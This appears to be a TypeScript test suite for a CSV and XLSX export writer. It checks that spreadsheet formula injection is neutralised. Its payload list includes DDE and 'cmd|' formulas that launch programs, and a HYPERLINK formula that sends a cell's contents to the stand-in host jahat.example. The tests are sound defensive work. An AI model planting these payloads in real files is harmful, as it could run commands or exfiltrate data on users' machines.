import { unzip } from '#test/unzip.ts'
import fc from 'fast-check'
import { parse } from 'csv-parse/sync'
import { SaxesParser } from 'saxes'
import { describe, expect, it } from 'vitest'
import { type Cell, type TableWriter, harmlessText } from './cell.ts'
import { csvTable } from './csv-table.ts'
import { xlsxTable } from './xlsx-table.ts'

/** What people write into names and addresses to have a spreadsheet run it (OWASP, "CSV Injection"; trust.md T30). */
const payloads = [
  '=1+1', '=cmd|\' /C calc\'!A0', '+1+1', '-1+1', '@SUM(1+1)', '\t=1+1', '\r=1+1', '\n=1+1', ' =1+1', '  @SUM(1)', '\u0000=1+1', '＝1+1', '＋1', '－1', '＠SUM(1)',
  '=HYPERLINK("http://jahat.example?x="&A1,"klik")', '"=1+1"', ',=1+1', ';=1+1', 'a\r\n=1+1', '=DDE("cmd";"/C calc";"x")', '\uFEFF=1+1', '%0A=1', '-2+3+cmd|\' /C calc\'!A0',
]
const dangerous = /^[^\x20-\uFFFC]*\s*[=+\-@＝＋－＠]/

const write = (table: TableWriter, rows: Cell[][]) => Buffer.concat([table.open(), table.rows(rows), table.close()])

function xlsxSheets(bytes: Buffer): Record<string, string[][]> {
  const files = unzip(bytes)
  const sheets: Record<string, string[][]> = {}
  for (const [name, content] of Object.entries(files)) {
    const rows: string[][] = []
    const parser = new SaxesParser({ xmlns: true })
    parser.on('error', (error) => {
      throw error
    })
    let isCell = false
    parser.on('opentag', ({ name: tag }) => {
      isCell = tag === 't' || tag === 'v'
      if (tag === 'row') rows.push([])
      if (tag === 'c') rows.at(-1)!.push('')
    })
    parser.on('text', (text) => {
      const row = rows.at(-1)
      if (isCell && row && row.length > 0) row[row.length - 1] += text
    })
    parser.write(Buffer.from(content).toString('utf8')).close()
    sheets[name] = rows
  }
  return sheets
}

describe('cells that a spreadsheet would run (T30, ASVS 1.2.10)', () => {
  it.each(payloads)('%j is text in CSV and in a workbook', (payload) => {
    const csv = parse(write(csvTable(['a', 'b']), [['aman', payload], [payload, payload]]), { bom: true }) as string[][]
    const { 'xl/worksheets/sheet1.xml': sheet } = xlsxSheets(write(xlsxTable({ head: ['a', 'b'], pageHeader: payload, notes: () => [['x', payload]] }), [['aman', payload], [payload, payload]]))
    for (const row of [...csv, ...sheet!]) for (const cell of row) expect(cell).not.toMatch(dangerous)
  })

  // Where a comma stands in numbers, as in Indonesia, a spreadsheet splits at semicolons and knows nothing of the quotes round a cell.
  it.each(['Jalan Melati;=cmd|\' /C calc\'!A0;x', 'a; =1+1', 'a;"=1+1', 'a;" @SUM(1)', 'a;;-1+1', 'a;＝1+1', 'a;\uFEFF=1+1'])('%j begins no cell where the file is split at semicolons', (payload) => {
    const lines = write(csvTable(['a', 'b']), [['aman', payload], [payload, payload]]).toString().split('\r\n').join('\n').split('\n')
    for (const field of lines.flatMap((line) => line.split(';'))) expect(field.replace(/^[\s"]+/, '')).not.toMatch(dangerous)
  })

  it('a sign written as its number stays so in a workbook', () => {
    const xml = Buffer.from(unzip(write(xlsxTable({ head: ['a'], pageHeader: 'x', notes: () => [] }), [['_x003D_1+1'], ['a_xb_']]))['xl/worksheets/sheet1.xml']!).toString()
    expect(xml).toContain('>_x005F_x003D_1+1<')
    expect(xml).toContain('>a_xb_<')
  })

  it('holds for any order of such signs', () => {
    fc.assert(fc.property(fc.string({ unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', ' ', '\u0000', '\u0085', '\u00A0', '\u2028', '\uFEFF', '＝', '＠', "'", '"', ',', 'a', '😀') }), (text) => !dangerous.test(harmlessText(text))))
  })
})

describe('a table', () => {
  const rows: Cell[][] = [['Siti "Ayu", S.Pd & <anak>', 12, null], ['dua\nbaris', -3, '0812-3456-7890'], ['\uD800 rusak \uFFFF', 0, '3201014505900000']]

  it('in CSV has a byte order mark, and every cell as it was', () => {
    const bytes = write(csvTable(['nama', 'angka', 'teks']), rows)
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
    expect(parse(bytes, { bom: true })).toEqual([['nama', 'angka', 'teks'], ['Siti "Ayu", S.Pd & <anak>', '12', ''], ['dua baris', '-3', '0812-3456-7890'], ['� rusak', '0', '3201014505900000']])
  })

  it('as a workbook is well-formed XML in a zip: data, notes, page header; long numbers stay text', () => {
    let count = 0
    const table = xlsxTable({ head: ['nama', 'angka', 'teks'], pageHeader: 'Ekspor A & B', notes: () => [['Jumlah baris', String(count)]] })
    const head = table.open()
    const first = table.rows(rows.slice(0, 1))
    const rest = table.rows(rows.slice(1))
    count = 3
    const bytes = Buffer.concat([head, first, rest, table.close()])
    const sheets = xlsxSheets(bytes)
    expect(sheets['xl/worksheets/sheet1.xml']!.slice(0, 3)).toEqual([['nama', 'angka', 'teks'], ['Siti "Ayu", S.Pd & <anak>', '12', ''], ['dua baris', '-3', '0812-3456-7890']])
    expect(sheets['xl/worksheets/sheet2.xml']).toEqual([['Jumlah baris', '3']])
    const xml = Buffer.from(unzip(bytes)['xl/worksheets/sheet1.xml']!).toString()
    expect(xml).toContain('<t xml:space="preserve">3201014505900000</t>')
    expect(xml).toContain('<oddHeader>&amp;LEkspor A &amp;&amp; B</oddHeader>')
  })

  it('without rows is whole as well', () => {
    expect(xlsxSheets(write(xlsxTable({ head: ['a'], pageHeader: 'x', notes: () => [] }), []))['xl/worksheets/sheet1.xml']).toEqual([['a']])
  })
})
